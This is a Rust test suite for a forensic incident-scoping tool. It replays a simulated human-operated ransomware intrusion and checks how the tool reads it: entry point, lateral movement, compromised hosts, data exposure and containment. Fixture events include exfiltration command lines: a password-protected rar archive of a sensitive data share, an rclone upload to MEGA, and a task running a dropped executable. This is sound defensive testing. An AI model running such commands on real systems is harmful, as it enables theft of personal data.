//! A miniature of the reference scenario, built event by event: VPN login
//! → RDP → discovery and LSASS dump → PsExec to two servers → CIAS archived
//! and uploaded → shadow copies deleted → Security log cleared; plus an
//! isolated State station (TES-01) whose logs cover the whole period.

mod common;

use std::sync::Arc;

use common::*;
use vigie_detect::Level;
use vigie_scope::*;

fn host<'a>(s: &'a Scope, n: &str) -> &'a Host {
    s.hosts
        .iter()
        .find(|h| h.name == n)
        .unwrap_or_else(|| panic!("host {n} missing"))
}

#[test]
fn entry_point_is_the_vpn_login_of_the_provider() {
    let s = run(&scenario(true));
    let e = s.entry_point.as_ref().expect("entry point");
    assert_eq!(e.method, "vpn");
    assert_eq!(e.account.as_deref(), Some("presta.maint"));
    assert_eq!(e.source_address.as_deref(), Some("203.0.113.45"));
    assert_eq!(e.source_kind, Some(AddressKind::External));
    assert_eq!(e.host.as_deref(), Some("SRV-RDS01"));
    assert_eq!(e.time, Some(t(14, 2, 10)));
    assert_eq!(e.confidence, Confidence::High);
    assert!(
        e.description.contains("after 1 failed attempt"),
        "{}",
        e.description
    );
    // Evidence points back at the firewall log line and the RDP logon.
    assert!(e.evidence.iter().any(|x| x.source.starts_with("FW01")));
    assert!(e
        .evidence
        .iter()
        .any(|x| x.event_id == Some(4624) && x.host.as_deref() == Some("SRV-RDS01")));
}

#[test]
fn lateral_movement_graph_and_compromised_hosts() {
    let s = run(&scenario(true));
    for target in ["SRV-FIC01", "SRV-BKP01"] {
        let l = s
            .links
            .iter()
            .find(|l| l.method == LinkMethod::Psexec && l.to == target)
            .unwrap_or_else(|| panic!("no psexec link to {target}: {:#?}", s.links));
        assert_eq!(
            l.from, "SRV-RDS01",
            "source resolved from 10.10.1.30 via the assets file"
        );
        assert_eq!(l.account.as_deref(), Some("presta.maint"));
        assert!(l.malicious);
        assert!(
            l.evidence.iter().any(|e| e.event_id == Some(7045))
                || l.evidence.iter().any(|e| e.event_id == Some(5145))
        );
    }
    let rdp = s
        .links
        .iter()
        .find(|l| l.method == LinkMethod::Rdp && l.to == "SRV-RDS01")
        .expect("rdp link");
    assert_eq!(rdp.from_address.as_deref(), Some("10.212.134.11"));
    assert_eq!(rdp.from_kind, AddressKind::Vpn);
    assert!(rdp.malicious);
    for h in ["SRV-RDS01", "SRV-FIC01", "SRV-BKP01"] {
        assert_eq!(
            host(&s, h).compromised,
            Compromise::Yes,
            "{h}: {:?}",
            host(&s, h).compromise_reasons
        );
    }
    for h in ["TES-01", "DC01", "SRV-WEB01"] {
        assert_eq!(host(&s, h).compromised, Compromise::No, "{h}");
    }
    assert_eq!(host(&s, "SRV-RDS01").first_malicious, Some(t(14, 2, 14)));
    assert_eq!(host(&s, "SRV-FIC01").last_malicious, Some(t(16, 1, 5)));
    let acc = s
        .accounts
        .iter()
        .find(|a| a.name == "presta.maint")
        .expect("account");
    assert_eq!(acc.compromised, Compromise::Yes);
    assert_eq!(acc.kind, AccountKind::Provider);
    assert!(acc.privileged);
    for h in ["SRV-RDS01", "SRV-FIC01", "SRV-BKP01"] {
        assert!(acc.hosts.contains(&h.to_string()), "{:?}", acc.hosts);
    }
    assert!(!s
        .accounts
        .iter()
        .any(|a| a.name == "agent.tes" && a.compromised != Compromise::No));
}

#[test]
fn one_incident_with_progression_in_time_order() {
    let s = run(&scenario(true));
    assert_eq!(
        s.incidents.len(),
        1,
        "{:#?}",
        s.incidents
            .iter()
            .map(|i| (&i.id, &i.hosts))
            .collect::<Vec<_>>()
    );
    let inc = &s.incidents[0];
    assert_eq!(inc.id, "INC-1");
    assert_eq!(inc.severity, Level::High);
    let titles: Vec<&str> = inc
        .progression
        .iter()
        .map(|p| p.rule_title.as_str())
        .collect();
    // The entry (VPN login) opens the progression as Initial Access, then
    // the first rule.
    assert_eq!(titles.first(), Some(&"Entry point: VPN (Vigie reading)"));
    assert_eq!(
        titles.get(1),
        Some(&"Suspicious Group And Account Reconnaissance Activity Using Net.EXE")
    );
    assert_eq!(titles.last(), Some(&"Event log cleared (Vigie built-in)"));
    // One start time: the entry, the incident and the attack period agree.
    let period = s.attack_period.unwrap();
    assert_eq!(inc.first, t(14, 2, 10));
    assert_eq!(period.first, inc.first);
    assert_eq!(s.entry_point.as_ref().unwrap().time, Some(inc.first));
    assert!(
        s.answer.headline.contains("2026-11-14 02:10 UTC"),
        "{}",
        s.answer.headline
    );
    assert!(inc.progression.windows(2).all(|w| w[0].first <= w[1].first));
    let psexec = inc
        .progression
        .iter()
        .find(|p| p.rule_title == "PsExec Service Installation")
        .unwrap();
    assert_eq!(psexec.count, 2);
    assert_eq!(psexec.hosts, vec!["SRV-BKP01", "SRV-FIC01"]);
    assert_eq!(psexec.technique_id.as_deref(), Some("T1569.002"));
    assert_eq!(psexec.tactic, "Execution");
    assert_eq!(
        inc.tactics.first().map(String::as_str),
        Some("Initial Access")
    );
    assert!(inc.tactics.contains(&"Lateral Movement".to_string()));
    assert!(inc.tactics.contains(&"Impact".to_string()));
    assert!(inc.services_affected.contains(&"social-action".to_string()));
    assert!(inc.links.len() >= 3, "{:?}", inc.links);
    assert!(inc.entry_point.is_some());
}

#[test]
fn nature_is_human_operated_ransomware_with_data_theft() {
    let s = run(&scenario(true));
    let kinds: Vec<NatureKind> = s.nature.iter().map(|n| n.kind).collect();
    assert_eq!(kinds[0], NatureKind::Ransomware);
    assert_eq!(
        s.nature[0].label,
        "human-operated ransomware with data theft (double extortion)"
    );
    assert!(kinds.contains(&NatureKind::DataTheft));
    assert!(kinds.contains(&NatureKind::CredentialTheft));
    assert!(kinds.contains(&NatureKind::LateralMovement));
    assert!(kinds.contains(&NatureKind::DefenceEvasion));
    let cred = s
        .nature
        .iter()
        .find(|n| n.kind == NatureKind::CredentialTheft)
        .unwrap();
    assert!(cred.evidence.iter().all(|e| e.rule_title.is_some()));
}

#[test]
fn cias_data_probably_left() {
    let s = run(&scenario(true));
    let cias: Vec<&DataExposure> = s
        .data_exposure
        .iter()
        .filter(|d| d.store.as_deref() == Some("CIAS"))
        .collect();
    let arch = cias
        .iter()
        .find(|d| d.activity == ExposureActivity::Archive)
        .expect("archive");
    assert_eq!(arch.tool.as_deref(), Some("rar.exe"));
    assert!(arch.probable_exfiltration);
    let up = cias
        .iter()
        .find(|d| d.activity == ExposureActivity::Upload)
        .expect("upload tied to CIAS via cias.rar");
    assert!(
        up.destinations.contains(&"mega:depot".to_string()),
        "{:?}",
        up.destinations
    );
    assert!(up.destinations.contains(&"g.api.mega.co.nz".to_string()));
    assert!(up.personal_data);
    assert_eq!(up.sensitivity, Some(Sensitivity::SpecialCategory));
    assert!(
        s.answer.data_exposure.contains("CIAS") && s.answer.data_exposure.contains("GDPR"),
        "{}",
        s.answer.data_exposure
    );
    let mega = s
        .domains
        .iter()
        .find(|d| d.domain == "g.api.mega.co.nz")
        .expect("mega domain");
    assert!(mega.reasons.contains(&"file_sharing".to_string()));
}

#[test]
fn coverage_shows_the_cleared_log_and_the_gap() {
    let s = run(&scenario(true));
    let fic = s
        .coverage
        .channels
        .iter()
        .find(|c| c.host == "SRV-FIC01" && c.channel == "Security")
        .unwrap();
    assert_eq!(fic.cleared.len(), 1);
    assert_eq!(fic.cleared[0].account.as_deref(), Some("presta.maint"));
    assert_eq!(fic.cleared[0].cleared_channel, "Security");
    assert_eq!(fic.cleared[0].time, Some(t(16, 1, 5)));
    assert_eq!(
        fic.record_gaps,
        vec![RecordGap {
            after: 2,
            before: 503,
            missing: 500
        }]
    );
    let tes = s
        .coverage
        .channels
        .iter()
        .find(|c| c.host == "TES-01")
        .unwrap();
    assert!(tes.record_gaps.is_empty() && tes.cleared.is_empty() && tes.silences.is_empty());
    assert_eq!(tes.events, 4 * 48 + 1);
    // A silence: the web server stops logging for 8 hours.
    let mut b = scenario(true);
    b.events.retain(|(e, _)| {
        !(e.computer.as_deref() == Some("SRV-WEB01.ccpab.local")
            && e.timestamp
                .is_some_and(|x| x > t(14, 4, 0) && x < t(14, 12, 0)))
    });
    let s = run(&b);
    let web = s
        .coverage
        .channels
        .iter()
        .find(|c| c.host == "SRV-WEB01")
        .unwrap();
    assert_eq!(web.silences.len(), 1);
    assert_eq!(web.silences[0].seconds, 8 * 3600);
}

#[test]
fn isolated_zone_with_full_coverage_and_no_contact_is_not_reached() {
    let s = run(&scenario(true));
    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
    assert_eq!(z.status, ZoneReach::NotReached, "{}", z.reason);
    assert_eq!(z.hosts, vec!["TES-01"]);
    assert!(
        z.coverage.iter().any(|c| c.starts_with("TES-01 Security")),
        "{:?}",
        z.coverage
    );
    assert!(z.evidence.is_empty());
    let passports = s
        .services
        .iter()
        .find(|x| x.service == "passports")
        .unwrap();
    assert_eq!(
        passports.status,
        ServiceState::Unaffected,
        "{}",
        passports.reason
    );
    // The DC ("*") makes other services depend on it, not the isolated one.
    let social = s
        .services
        .iter()
        .find(|x| x.service == "social-action")
        .unwrap();
    assert_eq!(social.status, ServiceState::Affected);
    assert_eq!(social.hosts, vec!["SRV-FIC01"]);
}

#[test]
fn isolated_zone_with_contact_is_reached() {
    let mut b = scenario(true);
    b.ev(
        t(15, 10, 0),
        "TES-01",
        SEC,
        Some(4624),
        &[
            ("TargetUserName", "presta.maint"),
            ("LogonType", "3"),
            ("IpAddress", "10.10.1.30"),
            ("WorkstationName", "SRV-RDS01"),
        ],
    );
    let s = run(&b);
    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
    assert_eq!(z.status, ZoneReach::Reached, "{}", z.reason);
    assert!(z
        .evidence
        .iter()
        .any(|e| e.event_id == Some(4624) && e.host.as_deref() == Some("TES-01")));
    assert_ne!(host(&s, "TES-01").compromised, Compromise::No);
}

#[test]
fn isolated_zone_without_logs_is_unknown_never_not_reached() {
    let s = run(&scenario(false));
    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
    assert_eq!(z.status, ZoneReach::Unknown);
    assert!(z.reason.contains("no logs for TES-01"), "{}", z.reason);
    let passports = s
        .services
        .iter()
        .find(|x| x.service == "passports")
        .unwrap();
    assert_eq!(passports.status, ServiceState::Unknown);
    // Logs that stop before the attack ends are not enough either.
    let mut b = scenario(true);
    b.events.retain(|(e, _)| {
        !(e.computer.as_deref() == Some("TES-01.ccpab.local") && e.timestamp.unwrap() > t(15, 0, 0))
    });
    let s = run(&b);
    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
    assert_eq!(z.status, ZoneReach::Unknown, "{}", z.reason);
    assert!(z.reason.contains("do not cover"), "{}", z.reason);
}

#[test]
fn containment_starts_with_the_entry() {
    let s = run(&scenario(true));
    let c = &s.containment;
    assert_eq!(c[0].kind, ActionKind::RevokeRemoteAccess);
    assert_eq!(c[0].target, "presta.maint");
    assert!(c
        .iter()
        .any(|a| a.kind == ActionKind::IsolateHost && a.target == "SRV-RDS01"));
    assert!(c
        .iter()
        .any(|a| a.kind == ActionKind::BlockAddress && a.target == "203.0.113.45"));
    // One block for the registrable domain, not one per MEGA host.
    assert!(c
        .iter()
        .any(|a| a.kind == ActionKind::BlockDomain && a.target == "mega.co.nz"));
    assert!(!c.iter().any(|a| a.target == "g.api.mega.co.nz"));
    // Every action names its evidence and how to undo it.
    for a in c {
        assert!(!a.evidence.is_empty(), "{a:?}");
        assert!(!a.undo.is_empty(), "{a:?}");
    }
    let rds = c
        .iter()
        .position(|a| a.kind == ActionKind::IsolateHost && a.target == "SRV-RDS01")
        .unwrap();
    let fic = c
        .iter()
        .position(|a| a.kind == ActionKind::IsolateHost && a.target == "SRV-FIC01")
        .unwrap();
    assert!(rds < fic, "entry host first");
    assert!(c.windows(2).all(|w| w[0].priority < w[1].priority));
    assert!(!s.answer.isolate_now.is_empty());
    let text = s.summary_text();
    assert!(
        text.contains("presta.maint") && text.contains("state-id: not reached"),
        "{text}"
    );
}

#[test]
fn parent_chain_follows_process_guids() {
    let s = run(&scenario(true));
    let p = s
        .processes
        .iter()
        .find(|p| p.image.ends_with("rundll32.exe"))
        .expect("rundll32");
    assert_eq!(
        p.parent_chain,
        vec![
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\userinit.exe"
        ]
    );
    assert_eq!(p.rules, vec!["Process Memory Dump Via Comsvcs.DLL"]);
    assert_eq!(p.user.as_deref(), Some("presta.maint"));
    let svc = s
        .services_installed
        .iter()
        .filter(|x| x.name == "PSEXESVC")
        .count();
    assert_eq!(svc, 2);
    assert!(s.services_installed.iter().all(|x| x.suspicious));
}

#[test]
fn merge_order_does_not_change_the_scope() {
    let b = scenario(true);
    let whole = run(&b).to_json();
    for split in [2usize, 3, 7] {
        let mut obs: Vec<Observer> = (0..split).map(|_| Observer::new(assets())).collect();
        for (i, (e, m)) in b.events.iter().enumerate() {
            // Interleave events across observers, as threads would.
            obs[(i / 5) % split].observe(e, m);
        }
        let mut rev = obs.into_iter().rev();
        let mut acc = rev.next().unwrap();
        for o in rev {
            acc.merge(o);
        }
        assert_eq!(acc.finish(&[], Lang::En).to_json(), whole, "split {split}");
    }
}

#[test]
fn json_round_trip_is_lossless() {
    let s = run(&scenario(true));
    let json = s.to_json();
    let back = Scope::from_json(&json).expect("parse back");
    assert_eq!(back, s);
    assert!(json.contains("\"schema_version\": \"1.1\""));
}

#[test]
fn without_assets_roles_are_inferred() {
    let b = scenario(true);
    let mut o = Observer::new(Arc::new(Assets::default()));
    for (e, m) in &b.events {
        o.observe(e, m);
    }
    let s = o.finish(&[], Lang::En);
    assert!(!s.assets_loaded);
    let dc = host(&s, "DC01");
    assert_eq!(dc.role.as_deref(), Some("domain_controller"));
    assert_eq!(dc.role_source.as_deref(), Some("inferred"));
    assert_eq!(host(&s, "FW01").role.as_deref(), Some("firewall"));
    assert!(s.zones.is_empty() && s.services.is_empty());
    assert!(s.caveats.iter().any(|c| c.contains("No assets file")));
    // Without the VPN pool, the tunnel address is internal, but the VPN
    // login behind it is still found through the firewall's tunnel address.
    let e = s.entry_point.as_ref().unwrap();
    assert_eq!(e.method, "vpn");
    assert_eq!(e.source_address.as_deref(), Some("203.0.113.45"));
}

#[test]
fn quiet_logs_give_no_attack() {
    let mut b = B::new();
    background(&mut b, true);
    let s = run(&b);
    assert!(s.nature.is_empty() && s.incidents.is_empty() && s.entry_point.is_none());
    assert!(s.hosts.iter().all(|h| h.compromised == Compromise::No));
    let z = s.zones.iter().find(|z| z.zone == "state-id").unwrap();
    assert_eq!(z.status, ZoneReach::NotReached, "{}", z.reason);
    assert!(s.containment.is_empty());
    // No process creation in these logs: nothing found, but not an all-clear.
    assert_eq!(s.assessment.verdict, Verdict::NothingFoundWithGaps);
    assert!(
        s.assessment
            .not_analysed
            .iter()
            .any(|g| g.contains("no process creation")),
        "{:?}",
        s.assessment.not_analysed
    );
    assert!(
        s.answer
            .headline
            .starts_with("No attack found in what was read, but this is not an all-clear"),
        "{}",
        s.answer.headline
    );
    assert!(s.assessment.analysed.iter().any(|a| a.contains("DC01")));
}

#[test]
fn correlations_with_a_host_become_signals() {
    let mut b = common::B::new();
    common::background(&mut b, true);
    let observe = || {
        let mut o = Observer::new(common::assets());
        for (e, m) in &b.events {
            o.observe(e, m);
        }
        o
    };
    // One high correlation alone: one piece of evidence, to look into.
    let high = vigie_detect::CorrelationMatch {
        rule: common::rule(
            "Brute force on DC",
            Level::High,
            &["attack.credential-access", "attack.t1110"],
        ),
        group: vec![("Computer".into(), "DC01.ccpab.local".into())],
        first: common::t(14, 1, 0),
        last: common::t(14, 1, 5),
        value: 40.0,
    };
    let s = observe().finish(&[high], Lang::En);
    assert_eq!(s.assessment.verdict, Verdict::Suspicious);
    assert_eq!(host(&s, "DC01").compromised, Compromise::Suspected);
    assert!(!s
        .containment
        .iter()
        .any(|a| a.kind == ActionKind::ResetKrbtgt));
    // A critical one is enough to call it.
    let o = observe();
    let corr = vigie_detect::CorrelationMatch {
        rule: common::rule(
            "Brute force on DC",
            Level::Critical,
            &["attack.credential-access", "attack.t1110"],
        ),
        group: vec![
            ("Computer".into(), "DC01.ccpab.local".into()),
            ("TargetUserName".into(), "adm.tech01".into()),
        ],
        first: common::t(14, 1, 0),
        last: common::t(14, 1, 5),
        value: 40.0,
    };
    let unplaced = vigie_detect::CorrelationMatch {
        group: vec![("IpAddress".into(), "203.0.113.9".into())],
        ..corr.clone()
    };
    let s = o.finish(&[corr, unplaced], Lang::En);
    assert_eq!(s.detections.correlations.len(), 2);
    assert_eq!(s.incidents.len(), 1);
    assert_eq!(s.incidents[0].hosts[0].name, "DC01");
    assert_eq!(s.incidents[0].accounts[0].name, "adm.tech01");
    assert!(s
        .nature
        .iter()
        .any(|n| n.kind == NatureKind::CredentialTheft));
    let dc = host(&s, "DC01");
    assert_eq!(dc.compromised, Compromise::Yes);
    // DC compromised: krbtgt reset is in the plan.
    assert!(s
        .containment
        .iter()
        .any(|a| a.kind == ActionKind::ResetKrbtgt));
}

#[test]
fn behaviours_are_recognised_without_rules() {
    // The same attack with every rule match removed: the scope still sees
    // recovery inhibited (vssadmin) and the LSASS dump (comsvcs MiniDump).
    let mut b = common::scenario(true);
    for (_, m) in b.events.iter_mut() {
        m.clear();
    }
    let s = common::run(&b);
    let kinds: Vec<NatureKind> = s.nature.iter().map(|n| n.kind).collect();
    assert_eq!(kinds.first(), Some(&NatureKind::Ransomware), "{kinds:?}");
    assert!(kinds.contains(&NatureKind::CredentialTheft));
    assert!(
        kinds.contains(&NatureKind::DataTheft),
        "rclone upload of the CIAS archive"
    );
    let ransom = &s.nature[0];
    assert!(ransom
        .evidence
        .iter()
        .any(|e| e.summary.contains("vssadmin delete shadows")));
    // Its defining evidence: recovery inhibited and ransom notes in three
    // folders, both Vigie's own readings (no rule ran).
    assert!(ransom
        .reasons
        .contains(&"Ransom notes written in several folders (Vigie built-in)".to_string()));
    assert_eq!(
        ransom.confidence,
        Confidence::High,
        "{}",
        ransom.confidence_reason
    );
    assert_eq!(
        host(&s, "SRV-RDS01").compromised,
        Compromise::Yes,
        "LSASS dump there"
    );
    let e = s.entry_point.as_ref().unwrap();
    assert_eq!(e.method, "vpn");
    assert_eq!(e.account.as_deref(), Some("presta.maint"));
}

#[test]
fn mass_deployed_task_marks_every_host_it_reached() {
    let mut b = common::scenario(true);
    for (i, pc) in ["PC-ACCUEIL-01", "PC-RH-02", "AQUA-CAISSE01"]
        .iter()
        .enumerate()
    {
        b.ev(common::t(16, 0, 45 + i as u32), pc, "Security", Some(4698), &[
            ("TaskName", "\\Microsoft\\Windows\\upd"),
            ("TaskContent", "<Task><Actions><Exec><Command>C:\\Windows\\Temp\\x.exe</Command></Exec></Actions></Task>"),
            ("SubjectUserName", "DC01$"),
        ]);
    }
    // The same name on two hosts only is not a mass deployment.
    for pc in ["PC-A", "PC-B"] {
        b.ev(
            common::t(15, 12, 0),
            pc,
            "Security",
            Some(4698),
            &[("TaskName", "\\Other"), ("SubjectUserName", "agent")],
        );
    }
    let s = common::run(&b);
    for pc in ["PC-ACCUEIL-01", "PC-RH-02", "AQUA-CAISSE01"] {
        let h = host(&s, pc);
        assert_eq!(h.compromised, Compromise::Yes, "{pc}");
        assert!(
            h.compromise_reasons[0].contains("mass deployment"),
            "{:?}",
            h.compromise_reasons
        );
        assert!(h.evidence.iter().any(|e| e.event_id == Some(4698)));
        assert!(h.first_malicious.is_some());
    }
    assert_eq!(host(&s, "PC-A").compromised, Compromise::No);
    let t = s
        .scheduled_tasks
        .iter()
        .find(|t| t.host == "PC-RH-02")
        .unwrap();
    assert_eq!(t.command.as_deref(), Some("C:\\Windows\\Temp\\x.exe"));
}

#[test]
fn accounts_groups_and_duplicated_process_logs() {
    let mut b = common::scenario(true);
    let sec = "Security";
    // A backdoor: created, then added to the domain admins, by presta.maint.
    b.ev(
        common::t(15, 3, 0),
        "DC01",
        sec,
        Some(4720),
        &[
            ("TargetUserName", "svc_sauvegarde"),
            ("SubjectUserName", "presta.maint"),
        ],
    );
    b.ev(
        common::t(15, 3, 1),
        "DC01",
        sec,
        Some(4728),
        &[
            ("TargetUserName", "Admins du domaine"),
            ("MemberName", "CN=svc_sauvegarde,CN=Users,DC=ccpab,DC=local"),
            ("SubjectUserName", "presta.maint"),
        ],
    );
    b.matched(common::rule(
        "Member Added to a Privileged Domain Group",
        Level::High,
        &["attack.persistence", "attack.t1098"],
    ));
    // A new member of staff the same week: created only.
    b.ev(
        common::t(15, 9, 0),
        "DC01",
        sec,
        Some(4720),
        &[
            ("TargetUserName", "lena.kerboul"),
            ("SubjectUserName", "adm.tech01"),
        ],
    );
    // The rar command logged twice: Security 4688 and Sysmon 1.
    b.ev(
        common::t(15, 22, 0),
        "SRV-FIC01",
        sec,
        Some(4688),
        &[
            ("NewProcessName", "C:\\PerfLogs\\rar.exe"),
            (
                "CommandLine",
                "rar.exe a -hpS3cret C:\\PerfLogs\\cias.rar D:\\Partages\\CIAS",
            ),
            ("NewProcessId", "0x1f4"),
            ("SubjectUserName", "presta.maint"),
        ],
    );
    // A folder upload that carries the archive made in it.
    b.ev(
        common::t(15, 23, 0),
        "SRV-FIC01",
        "Microsoft-Windows-Sysmon/Operational",
        Some(1),
        &[
            ("Image", "C:\\PerfLogs\\rclone.exe"),
            (
                "CommandLine",
                "rclone.exe copy C:\\PerfLogs\\ mega:second -q",
            ),
            ("User", "CCPAB\\presta.maint"),
        ],
    );
    let s = common::run(&b);
    assert!(
        !s.accounts.iter().any(|a| a.name == "admins du domaine"),
        "a group is not an account"
    );
    let bd = s
        .accounts
        .iter()
        .find(|a| a.name == "svc_sauvegarde")
        .unwrap();
    assert_eq!(bd.compromised, Compromise::Yes);
    assert!(bd.created_during_attack);
    assert_eq!(bd.added_to_groups, vec!["Admins du domaine"]);
    assert!(s
        .containment
        .iter()
        .any(|a| a.kind == ActionKind::DeleteAccount && a.target == "svc_sauvegarde"));
    let lena = s
        .accounts
        .iter()
        .find(|a| a.name == "lena.kerboul")
        .unwrap();
    assert_eq!(lena.compromised, Compromise::Suspected);
    assert!(lena.compromise_reasons[0].contains("to check"));
    assert!(!s.containment.iter().any(|a| a.target == "lena.kerboul"));
    let rars = s
        .processes
        .iter()
        .filter(|p| p.image.to_lowercase().ends_with("rar.exe"))
        .count();
    assert_eq!(rars, 1, "4688 and Sysmon 1 of one process are one process");
    let second = s
        .data_exposure
        .iter()
        .find(|d| d.destinations.contains(&"mega:second".to_string()))
        .expect("folder upload");
    assert_eq!(
        second.store.as_deref(),
        Some("CIAS"),
        "C:\\PerfLogs\\ holds cias.rar"
    );
}

/// `vigie serve`'s live scope observes into a fresh observer between two
/// answers and merges it into the settled one, the fresh one following
/// the settled one's process creations (`Observer::follow`). That must
/// give the scope one observer gives, also where an old 4688 layout
/// (no ParentProcessName) names a parent created before the cut.
#[test]
fn a_live_scope_cut_between_answers_gives_one_observers_scope() {
    let mut b = scenario(true);
    let sec = "Security";
    let rule = common::rule("Suspicious Tool", Level::High, &["attack.execution"]);
    b.ev(
        common::t(15, 21, 0),
        "SRV-FIC01",
        sec,
        Some(4688),
        &[
            (
                "NewProcessName",
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            ),
            ("NewProcessId", "0x2a0"),
            ("ProcessId", "0x1"),
            ("SubjectUserName", "presta.maint"),
        ],
    );
    let cut = b.events.len();
    b.ev(
        common::t(15, 21, 5),
        "SRV-FIC01",
        sec,
        Some(4688),
        &[
            ("NewProcessName", "C:\\Windows\\System32\\wsmprovhost.exe"),
            (
                "CommandLine",
                "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            ),
            ("NewProcessId", "0x2b0"),
            ("ProcessId", "0x2a0"),
            ("SubjectUserName", "presta.maint"),
        ],
    );
    b.matched(rule);
    let live = |every: &dyn Fn(usize) -> bool, follow: bool| {
        let mut settled = Observer::new(assets());
        let mut fresh = Observer::new(assets());
        for (i, (e, m)) in b.events.iter().enumerate() {
            if every(i) {
                let mut f = std::mem::replace(&mut fresh, Observer::new(assets()));
                f.unfollow();
                settled.merge(f);
                if follow {
                    fresh.follow(&settled);
                }
            }
            fresh.observe(e, m);
        }
        settled.merge(fresh);
        settled.finish(&[], Lang::En).to_json()
    };
    let whole = run(&b).to_json();
    // The remote session's host process is told with its parent's name.
    assert!(
        whole.to_ascii_lowercase().contains("wmiprvse.exe"),
        "the parent is named"
    );
    for n in [1usize, 5, 64] {
        assert_eq!(live(&|i| i % n == 0, true), whole, "cut every {n}");
    }
    assert_eq!(live(&|i| i == cut, true), whole, "cut before the child");
}
